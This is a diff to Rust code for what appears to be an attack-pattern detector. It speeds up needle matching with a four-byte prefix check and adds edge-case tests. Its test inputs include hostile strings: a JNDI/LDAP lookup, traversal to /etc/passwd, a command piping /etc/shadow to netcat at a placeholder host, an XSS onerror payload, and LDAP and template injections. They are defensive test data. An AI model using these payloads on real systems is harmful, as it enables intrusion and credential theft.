@@ -26,6 +26,17 @@ struct Index {
     by_first: [(u16, u16); 256],
     /// (family, needle), sorted by the needle's first byte.
     needles: Vec<(u8, &'static [u8])>,
+    /// Each needle's first four bytes (little-endian, zero-padded) and the mask of those it has:
+    /// most candidates are rejected by one comparison of a word, without a call to memcmp.
+    heads: Vec<(u32, u32)>,
+}
+
+/// Up to four bytes of `bytes` from its start as a little-endian word, zero-padded.
+fn head_word(bytes: &[u8]) -> u32 {
+    let mut word = [0u8; 4];
+    let n = bytes.len().min(4);
+    word[..n].copy_from_slice(&bytes[..n]);
+    u32::from_le_bytes(word)
 }
 
 fn index() -> &'static Index {
@@ -47,7 +58,18 @@ fn index() -> &'static Index {
             }
             slot.1 = i as u16 + 1;
         }
-        Index { by_first, needles }
+        let heads = needles
+            .iter()
+            .map(|(_, n)| {
+                let mask = u32::MAX >> (8 * (4 - n.len().min(4)));
+                (head_word(n), mask)
+            })
+            .collect();
+        Index {
+            by_first,
+            needles,
+            heads,
+        }
     })
 }
 
@@ -59,8 +81,18 @@ pub fn family_hits(lower: &str) -> [usize; FAMILIES.len()] {
     let bytes = lower.as_bytes();
     for (i, &b) in bytes.iter().enumerate() {
         let (start, end) = idx.by_first[usize::from(b)];
+        if start == end {
+            continue;
+        }
+        let rest = &bytes[i..];
+        let word = head_word(rest);
         for j in usize::from(start)..usize::from(end) {
-            if found[j / 64] & (1 << (j % 64)) == 0 && bytes[i..].starts_with(idx.needles[j].1) {
+            let (head, mask) = idx.heads[j];
+            if word & mask != head || found[j / 64] & (1 << (j % 64)) != 0 {
+                continue;
+            }
+            let needle = idx.needles[j].1;
+            if needle.len() <= 4 || rest.starts_with(needle) {
                 found[j / 64] |= 1 << (j % 64);
             }
         }
@@ -418,6 +450,14 @@ mod tests {
             "${jndi:ldap://x/a} ../../etc/passwd; cat /etc/shadow | nc x 1",
             "<img src=x onerror=alert(1)> *)(uid=*) {{7*7}} \\u00e9t\\u00e9",
             "\u{1}caf\u{e9} 保持する o:+8:\"x\"",
+            // needles cut by the end of the text, and needles that end it
+            "a uni",
+            "1 --",
+            "x|id\n",
+            "select",
+            "/bin",
+            "ls",
+            "\0\0|",
         ] {
             let one_pass = family_hits(text);
             for (f, fam) in FAMILIES.iter().enumerate() {
